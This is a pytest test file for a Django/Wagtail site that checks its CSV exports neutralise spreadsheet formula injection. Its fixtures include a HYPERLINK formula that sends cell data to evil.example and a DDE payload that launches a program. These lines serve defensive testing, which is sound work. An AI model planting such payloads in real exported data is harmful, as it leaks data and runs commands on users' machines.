"""Every CSV the site and its admin produce keeps formulas inert (OWASP's CSV injection advice)."""

import csv
import datetime
import io

import pytest
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet
from wagtail.contrib.forms.models import FormSubmission

from actors.models import Actor
from board.models import BoardReply
from home.csv_export import SafeSpreadsheetExportMixin, safe_cell
from home.form_pages import FormPage
from news.models import Indicator, IndicatorMeasurement

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 5 56 00 00 00", "'+33 5 56 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12", "-12"),
        ("-3,5", "-3,5"),
        ("-0.25", "-0.25"),
        ("+7", "+7"),
        ("Atelier = vélo", "Atelier = vélo"),
        (-4, -4),
        (None, None),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe_but_numbers_stay_numbers(value, expected):
    assert safe_cell(value) == expected


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_directory_export_is_inert(client):
    Actor.objects.create(name=FORMULA, slug="piege", short_description="@SUM(1+1)", live=True)
    rows = read_csv(client.get("/acteurs/acteurs.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert FORMULA not in cells


def test_the_indicators_export_is_inert_and_keeps_negative_numbers(client):
    indicator = Indicator.objects.create(name="-1+cmd|' /C calc'!A0", unit="emplois", baseline=-5, target=10)
    IndicatorMeasurement.objects.create(indicator=indicator, date=datetime.date(2015, 6, 1), value=-2, source="=1+1")
    rows = read_csv(client.get("/projet/indicateurs.csv"))
    row = next(row for row in rows if row[0].startswith("'-1+cmd"))
    assert row[2] == "-5" and row[4] == "-2" and row[6] == "'=1+1"


def test_form_submissions_export_is_inert(admin_client_logged, home_page):
    page = FormPage.objects.first()
    FormSubmission.objects.create(page=page, form_data={field.clean_name: FORMULA for field in page.get_form_fields()})
    response = admin_client_logged.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    cells = [cell for row in read_csv(response) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_admin_listing_exports_are_inert(admin_client_logged):
    from board.models import BoardPost

    post = BoardPost.objects.create(
        title="Prêt de camion", description="…", kind="offre", category="materiel", expires_on=datetime.date.today()
    )
    BoardReply.objects.create(post=post, name="@Camille", email="c@example.org", message=FORMULA)
    response = admin_client_logged.get("/admin/snippets/board/boardreply/?export=csv")
    cells = [cell for row in read_csv(response) for cell in row]
    assert "'@Camille" in cells and "'" + FORMULA in cells and FORMULA not in cells


def test_every_admin_listing_with_an_export_uses_the_safe_export():
    exported = [
        viewset
        for viewset in viewsets.viewsets
        if getattr(viewset, "list_export", ViewSet.UNDEFINED) not in (ViewSet.UNDEFINED, [])
    ]
    assert len(exported) >= 5
    for viewset in exported:
        assert issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin), viewset
    assert issubclass(FormPage.submissions_list_view_class, SafeSpreadsheetExportMixin)
